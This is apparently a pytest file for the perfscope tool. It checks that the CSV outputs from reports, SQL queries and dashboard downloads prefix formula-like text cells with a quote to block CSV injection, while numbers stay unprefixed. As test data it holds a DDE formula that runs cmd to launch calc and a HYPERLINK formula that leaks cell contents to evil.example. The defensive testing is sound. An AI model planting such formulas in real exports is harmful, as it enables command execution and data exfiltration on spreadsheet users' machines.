"""CSV injection (issue 33, item 10): a text cell starting with `=`, `+`, `-`, `@`, a tab or a CR is
written with a leading `'` by every CSV perfscope writes (`report --tables DIR`, `sql --format csv`,
the dashboard's download), so no spreadsheet evaluates it (OWASP's rule); numbers, negative ones
included, are written as they are."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pytest
from storegen import make_run

from perfscope.output import csv_text, spreadsheet_safe

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [CALC, LINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_cells_are_spreadsheet_safe_and_numbers_stay_numbers() -> None:
    table = pa.table({"op": [*HOSTILE, "plain"], "x": [-1.5] * 8, "n": [-3] * 8, "ok": [True] * 8})
    rows = _cells(csv_text(table))
    assert rows[0] == ["op", "x", "n", "ok"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE] + ["plain"]
    assert {(r[1], r[2]) for r in rows[1:]} == {("-1.5", "-3")}  # numbers are never prefixed
    # a column name is a text cell too
    assert _cells(csv_text(pa.table({"=1+1": [1]})))[0] == ["'=1+1"]
    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    make_run(root, "r1", experiment=CALC, steps=6)
    make_run(root, "r2", experiment=CALC, world_size=2, steps=6)
    return root


def _perfscope(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "perfscope", *args], capture_output=True, text=True, timeout=240, check=False
    )


def test_sql_format_csv(store: Path) -> None:
    quoted = LINK.replace("'", "''")
    res = _perfscope(
        "sql", str(store), f"SELECT '{quoted}' AS op, -1.5 AS x, -2 AS n, experiment FROM runs LIMIT 1",
        "--format", "csv",
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    assert _cells(res.stdout) == [["op", "x", "n", "experiment"], ["'" + LINK, "-1.5", "-2", "'" + CALC]]


def test_report_tables_csv(store: Path, tmp_path: Path) -> None:
    tables = tmp_path / "tables"
    report = str(tmp_path / "r.md")
    res = _perfscope("report", str(store), "--format", "md", "-o", report, "--tables", str(tables))
    assert res.returncode == 0, res.stderr
    cells = [c for f in sorted(tables.glob("*.csv")) for row in _cells(f.read_text()) for c in row]
    assert "'" + CALC in cells  # the experiment's name, in the runs tables
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    negative = [c for c in cells if c.startswith("-")]
    assert all(float(c) < 0 for c in negative), negative  # a '-' cell left as it is is a number


def test_dashboard_download(store: Path) -> None:
    from perfscope.dashboard.sql import csv_download
    from perfscope.store.open import open_store
    from perfscope.store.user_sql import UserSql

    with open_store(store) as opened:
        session = UserSql(opened)
        try:
            data = csv_download(session, "SELECT experiment, -7 AS n FROM runs LIMIT 1")
        finally:
            session.close()
    assert _cells(data.decode()) == [["experiment", "n"], ["'" + CALC, "-7"]]
